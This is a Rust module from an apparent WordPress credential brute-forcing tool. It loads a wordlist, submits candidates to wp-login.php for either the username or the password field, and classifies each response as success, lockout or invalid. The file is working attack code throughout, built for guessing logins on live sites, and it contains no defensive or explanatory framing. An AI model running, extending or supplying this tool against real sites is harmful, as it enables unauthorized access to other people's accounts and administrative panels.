use std::collections::BTreeMap;
use std::future::Future;
use std::path::Path;
use std::time::Duration;

use thiserror::Error;

use crate::classifier::{Classifier, CredentialField, Outcome};
use crate::probe::{self, Reachability};
use crate::progress::{attempt_line, StatusLine};
use crate::utils;

#[derive(Clone, Debug)]
pub enum WordlistSource {
    FilePath(String),
    Inline(Vec<String>),
}

#[derive(Clone, Debug)]
pub struct Options {
    pub url: String,
    pub wordlist: WordlistSource,
    /// Kept raw so the reachability checker owns timeout validation.
    pub timeout: String,
    pub field: CredentialField,
    /// Value for the credential field held constant. Defaults per field.
    pub fixed_value: Option<String>,
    pub user_agent: String,
}

impl Default for Options {
    fn default() -> Self {
        Self {
            url: String::new(),
            wordlist: WordlistSource::Inline(Vec::new()),
            timeout: "5".to_string(),
            field: CredentialField::Username,
            fixed_value: None,
            user_agent: probe::DEFAULT_USER_AGENT.to_string(),
        }
    }
}

#[derive(Debug, Error)]
pub enum RunnerError {
    #[error("no target url provided")]
    NoTarget,

    #[error("invalid URL '{url}', expected an http(s):// prefix")]
    InvalidUrl { url: String },

    #[error("the site is unreachable: {reason}")]
    Unreachable { reason: String },

    #[error("the wordlist path does not exist: {path}")]
    MissingWordlist { path: String },

    #[error("failed to read wordlist '{path}': {source}")]
    WordlistRead {
        path: String,
        #[source]
        source: std::io::Error,
    },

    #[error("failed to build http client: {reason}")]
    HttpClient { reason: String },

    #[error("failed to fetch the login page: {reason}")]
    SessionBootstrap { reason: String },

    #[error("request for '{candidate}' failed: {reason}")]
    AttemptFailed { candidate: String, reason: String },
}

/// The terminal result of one run. A blocked target is reported as exhausted
/// but flagged so the operator knows the run was inconclusive, not negative.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum RunResult {
    Found(String),
    Exhausted { blocked: bool },
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Target {
    pub base_url: String,
    pub login_url: String,
    pub admin_url: String,
}

impl Target {
    pub fn new(base_url: &str) -> Self {
        let base_url = base_url.trim().trim_end_matches('/').to_string();
        let login_url = format!("{base_url}/wp-login.php");
        let admin_url = format!("{base_url}/wp-admin");
        Self {
            base_url,
            login_url,
            admin_url,
        }
    }
}

/// Seam between the attempt loop and the network. Returns the response body
/// for one candidate submission.
pub trait Submit {
    fn submit(&self, candidate: &str) -> impl Future<Output = Result<String, RunnerError>>;
}

pub struct FormSubmitter {
    client: reqwest::Client,
    target: Target,
    cookies: BTreeMap<String, String>,
    field: CredentialField,
    fixed_value: String,
}

impl FormSubmitter {
    pub fn new(
        client: reqwest::Client,
        target: Target,
        cookies: BTreeMap<String, String>,
        field: CredentialField,
        fixed_value: String,
    ) -> Self {
        Self {
            client,
            target,
            cookies,
            field,
            fixed_value,
        }
    }
}

impl Submit for FormSubmitter {
    async fn submit(&self, candidate: &str) -> Result<String, RunnerError> {
        let (log, pwd) = match self.field {
            CredentialField::Username => (candidate, self.fixed_value.as_str()),
            CredentialField::Password => (self.fixed_value.as_str(), candidate),
        };
        let form = [
            ("log", log),
            ("pwd", pwd),
            ("wp-submit", "Log In"),
            ("redirect_to", self.target.admin_url.as_str()),
            ("testcookie", "1"),
        ];
        let mut request = self.client.post(&self.target.login_url).form(&form);
        if !self.cookies.is_empty() {
            request = request.header(
                reqwest::header::COOKIE,
                probe::cookie_header(&self.cookies),
            );
        }
        let resp = request
            .send()
            .await
            .map_err(|e| RunnerError::AttemptFailed {
                candidate: candidate.to_string(),
                reason: probe::describe_transport_error(&e),
            })?;
        resp.text().await.map_err(|e| RunnerError::AttemptFailed {
            candidate: candidate.to_string(),
            reason: probe::describe_transport_error(&e),
        })
    }
}

/// The attempt-and-classify loop. Submits candidates strictly in order, one
/// network submission each, and stops at the first success or block. A
/// transport failure aborts the run with no retry.
pub async fn run_attempts<S: Submit>(
    submitter: &S,
    candidates: &[String],
    classifier: &Classifier,
    status: &mut StatusLine,
) -> Result<RunResult, RunnerError> {
    let total = candidates.len();
    for (idx, candidate) in candidates.iter().enumerate() {
        let body = match submitter.submit(candidate).await {
            Ok(body) => body,
            Err(e) => {
                status.clear();
                return Err(e);
            }
        };
        match classifier.classify(&body) {
            Outcome::Success => {
                status.clear();
                return Ok(RunResult::Found(candidate.clone()));
            }
            Outcome::Blocked => {
                status.clear();
                return Ok(RunResult::Exhausted { blocked: true });
            }
            Outcome::InvalidCredential => {
                status.update(&attempt_line(idx, total, candidate));
            }
            Outcome::Unrecognized(text) => {
                status.println(&format!("unrecognized login error for '{candidate}': {text}"));
                status.update(&attempt_line(idx, total, candidate));
            }
        }
    }
    status.clear();
    Ok(RunResult::Exhausted { blocked: false })
}

pub struct Runner {
    options: Options,
}

impl Runner {
    pub fn new(options: Options) -> Result<Self, RunnerError> {
        let url = options.url.trim();
        if url.is_empty() {
            return Err(RunnerError::NoTarget);
        }
        if !url.starts_with("http://") && !url.starts_with("https://") {
            return Err(RunnerError::InvalidUrl {
                url: url.to_string(),
            });
        }
        Ok(Self { options })
    }

    pub async fn run(&self) -> Result<RunResult, RunnerError> {
        let target = Target::new(&self.options.url);

        match probe::check_reachability(
            &target.login_url,
            &self.options.timeout,
            &self.options.user_agent,
        )
        .await
        {
            Reachability::Reachable => {}
            Reachability::Unreachable(reason) => {
                return Err(RunnerError::Unreachable { reason });
            }
        }

        let candidates = self.load_candidates().await?;

        // The checker above already validated the timeout.
        let secs = utils::parse_timeout_seconds(&self.options.timeout)
            .map_err(|reason| RunnerError::Unreachable { reason })?;
        let client = probe::build_http_client(Duration::from_secs_f64(secs), &self.options.user_agent)
            .map_err(|reason| RunnerError::HttpClient { reason })?;

        let cookies = probe::bootstrap_cookies(&client, &target.login_url)
            .await
            .map_err(|reason| RunnerError::SessionBootstrap { reason })?;

        let classifier = Classifier::new(self.options.field);
        let fixed_value = self
            .options
            .fixed_value
            .clone()
            .unwrap_or_else(|| self.options.field.default_fixed_value().to_string());
        let submitter = FormSubmitter::new(client, target, cookies, self.options.field, fixed_value);

        let mut status = StatusLine::stdout();
        run_attempts(&submitter, &candidates, &classifier, &mut status).await
    }

    async fn load_candidates(&self) -> Result<Vec<String>, RunnerError> {
        match &self.options.wordlist {
            WordlistSource::Inline(words) => {
                Ok(words.iter().map(|w| w.trim().to_string()).collect())
            }
            WordlistSource::FilePath(path) => {
                if !Path::new(path).is_file() {
                    return Err(RunnerError::MissingWordlist { path: path.clone() });
                }
                utils::load_candidates(path)
                    .await
                    .map_err(|source| RunnerError::WordlistRead {
                        path: path.clone(),
                        source,
                    })
            }
        }
    }
}
